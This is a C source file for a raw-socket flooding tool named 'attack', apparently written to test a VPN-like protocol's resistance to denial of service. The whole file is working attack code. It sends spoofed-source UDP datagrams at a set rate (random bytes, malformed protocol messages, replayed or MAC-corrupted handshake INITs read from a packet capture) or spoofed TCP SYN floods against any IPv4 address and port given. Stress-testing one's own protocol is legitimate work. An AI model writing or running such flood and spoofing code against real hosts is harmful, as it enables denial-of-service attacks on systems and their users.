/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Sends datagrams to a node that nobody wants there, at a set rate.
 *
 *	attack KIND RATE SECONDS TO PORT SOURCE SPREAD [CAPTURE]
 *
 * KIND:
 *	random	bytes, 1 to 1,400 of them
 *	form	the types of the protocol with their lengths; the rest is random
 *	mac	the INITs of CAPTURE with a wrong MAC: the pair id is right
 *	mac2	the INITs of CAPTURE with a random mac2
 *	again	the INITs of CAPTURE as they are
 *	mixed	random, form and mac in turn
 *	syn	no datagrams: the beginnings of TCP connections
 *
 * IPv4. The datagrams come from SOURCE and the SPREAD - 1 addresses behind it,
 * from port 3406 of them (raw sockets ask nobody). With SOURCE - those of
 * CAPTURE keep the one they had. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/bytes.h"
#include "core/session/handshake.h"
#include "format/ippkt.h"
#include "format/proto.h"
#include "sys/clock.h"

#define PCAP_HEADER_LEN 24
#define ETHER_LEN 14
#define IPV4_LEN 20
#define UDP_LEN 8
#define TCP_LEN 20
#define PACKET_MAX 2048
#define RANDOM_MAX 1400
#define KEPT_MAX 1024
#define MAC1_AT 120
#define PAUSE_NS 1000000 /* between two portions */

enum kind { RANDOM, FORM, MAC, MAC2, AGAIN, MIXED, SYN, KINDS };

static const char *const kinds[KINDS] = {
	[RANDOM] = "random", [FORM] = "form",	[MAC] = "mac", [MAC2] = "mac2",
	[AGAIN] = "again",   [MIXED] = "mixed", [SYN] = "syn",
};

struct record { /* of a capture */
	uint32_t seconds, fraction, kept, length;
};

struct kept { /* an INIT of the capture, with what was before it */
	uint8_t p[IPV4_LEN + UDP_LEN + DGRAM_INIT_LEN];
};

static struct kept inits[KEPT_MAX];
static unsigned int ninits;
static uint32_t to, source, spread; /* addresses, in the machine's order */
static uint16_t port;

static _Noreturn void
fail(const char *what)
{
	perror(what);
	exit(EXIT_FAILURE);
}

static uint32_t
chance(void)
{
	static uint64_t state = 1;

	state = state * 6364136223846793005u + 1442695040888963407u;
	return (uint32_t)(state >> 32);
}

static void
scramble(uint8_t *p, size_t n)
{
	while (n > 0)
		p[--n] = (uint8_t)chance();
}

static void
read_capture(const char *path)
{
	static uint8_t frame[65536];
	struct record r;
	FILE *f = fopen(path, "rb");

	if (f == NULL || fread(frame, PCAP_HEADER_LEN, 1, f) != 1)
		fail(path);
	while (ninits < KEPT_MAX && fread(&r, sizeof(r), 1, f) == 1 &&
	       r.kept <= sizeof(frame) && fread(frame, r.kept, 1, f) == 1)
		if (r.kept == ETHER_LEN + sizeof(inits[0].p) &&
		    frame[ETHER_LEN] == 0x45 &&
		    frame[ETHER_LEN + IPV4_LEN + UDP_LEN] == DGRAM_INIT)
			memcpy(inits[ninits++].p, frame + ETHER_LEN,
			       sizeof(inits[0].p));
	fclose(f);
	if (ninits == 0) {
		fprintf(stderr, "%s: no INIT in it\n", path);
		exit(EXIT_FAILURE);
	}
}

/* The protocol's own types and lengths. */
static size_t
make_form(uint8_t *p)
{
	static const size_t lens[] = { DGRAM_INIT_LEN, DGRAM_RESP_LEN,
				       DGRAM_COOKIE_LEN, 0 };
	uint32_t type = chance() % 4;
	size_t n = lens[type];

	if (n == 0)
		n = DGRAM_DATA_OVERHEAD + chance() % RANDOM_MAX;
	scramble(p, n);
	memset(p, 0, 4);
	p[0] = (uint8_t)(type + 1);
	return n;
}

static size_t
make_init(enum kind kind, uint8_t *p, const struct kept *k)
{
	memcpy(p, k->p + IPV4_LEN + UDP_LEN, DGRAM_INIT_LEN);
	if (kind == MAC)
		scramble(p + MAC1_AT, PROTO_MAC_LEN);
	else if (kind == MAC2)
		scramble(p + HANDSHAKE_MAC2_AT, PROTO_MAC_LEN);
	return DGRAM_INIT_LEN;
}

/* From an address whose host does not answer it stays half open. */
static void
make_syn(uint8_t *ip)
{
	uint8_t *tcp = ip + IPV4_LEN;

	ip[9] = IPPROTO_TCP;
	memset(tcp, 0, TCP_LEN);
	put_be16(tcp, (uint16_t)(1024 + chance() % 60000));
	put_be16(tcp + 2, port);
	put_be32(tcp + 4, chance());
	tcp[12] = TCP_LEN / 4 << 4;
	tcp[13] = 2; /* SYN */
	put_be16(tcp + 14, 64240);
	put_be16(tcp + 16, (uint16_t)~ippkt_fold(ippkt_sum(
				   ippkt_pseudo_sum(ip, IPPROTO_TCP, TCP_LEN),
				   tcp, TCP_LEN)));
}

static void
send_one(int fd, enum kind kind, uint64_t n)
{
	uint8_t ip[PACKET_MAX] = { 0x45 }, *udp = ip + IPV4_LEN;
	struct sockaddr_in at = { .sin_family = AF_INET };
	const struct kept *k = ninits > 0 ? &inits[n % ninits] : NULL;
	uint32_t from = source + (uint32_t)(n % spread);
	size_t len;

	if (kind == MIXED)
		kind = n % 3 == 0 ? RANDOM : n % 3 == 1 ? FORM : MAC;
	if (kind == RANDOM) {
		len = 1 + chance() % RANDOM_MAX;
		scramble(udp + UDP_LEN, len);
	} else if (kind == FORM || k == NULL) {
		len = make_form(udp + UDP_LEN);
	} else {
		len = make_init(kind, udp + UDP_LEN, k);
	}
	put_be16(udp, 3406);
	if (source == 0 && k != NULL) {
		from = get_be32(k->p + 12);
		memcpy(udp, k->p + IPV4_LEN, 2);
	}
	ip[8] = 64;
	ip[9] = IPPROTO_UDP;
	put_be32(ip + 12, from);
	put_be32(ip + 16, to);
	put_be16(udp + 2, port);
	put_be16(udp + 4, (uint16_t)(UDP_LEN + len)); /* without checksum */
	if (kind == SYN) {
		make_syn(ip);
		len = TCP_LEN - UDP_LEN;
	}
	at.sin_addr.s_addr = htonl(to);
	if (sendto(fd, ip, IPV4_LEN + UDP_LEN + len, 0,
		   (const struct sockaddr *)&at, sizeof(at)) < 0 &&
	    errno != ENOBUFS)
		fail("sendto");
}

/* As many as are due, then a pause. */
static uint64_t
flood(int fd, enum kind kind, double rate, double seconds)
{
	const struct timespec pause = { 0, PAUSE_NS };
	struct monotime began = clock_mono();
	uint64_t n = 0;
	double now;

	do {
		now = (double)(clock_mono().ns - began.ns) / (double)NS_PER_S;
		while ((double)n < now * rate)
			send_one(fd, kind, n++);
		nanosleep(&pause, NULL);
	} while (now < seconds);
	return n;
}

static uint32_t
address(const char *text)
{
	struct in_addr a;

	if (inet_pton(AF_INET, text, &a) != 1) {
		fprintf(stderr, "attack: %s: no IPv4 address\n", text);
		exit(2);
	}
	return ntohl(a.s_addr);
}

int
main(int argc, char **argv)
{
	const int room = 4 << 20;
	int kind = 0, fd;

	while (argc > 1 && kind < KINDS && strcmp(argv[1], kinds[kind]) != 0)
		kind++;
	if ((argc != 8 && argc != 9) || kind == KINDS ||
	    (argc == 8 && kind != RANDOM && kind != FORM && kind != SYN)) {
		fputs("usage: attack KIND RATE SECONDS TO PORT SOURCE SPREAD "
		      "[CAPTURE]\n",
		      stderr);
		return 2;
	}
	if (argc == 9)
		read_capture(argv[8]);
	to = address(argv[4]);
	port = (uint16_t)strtoul(argv[5], NULL, 10);
	source = strcmp(argv[6], "-") == 0 ? 0 : address(argv[6]);
	spread = (uint32_t)strtoul(argv[7], NULL, 10);
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0 || spread == 0)
		fail("raw socket");
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &room, sizeof(room));
	printf("%ju\n",
	       (uintmax_t)flood(fd, (enum kind)kind, strtod(argv[2], NULL),
				strtod(argv[3], NULL)));
	close(fd);
	return EXIT_SUCCESS;
}
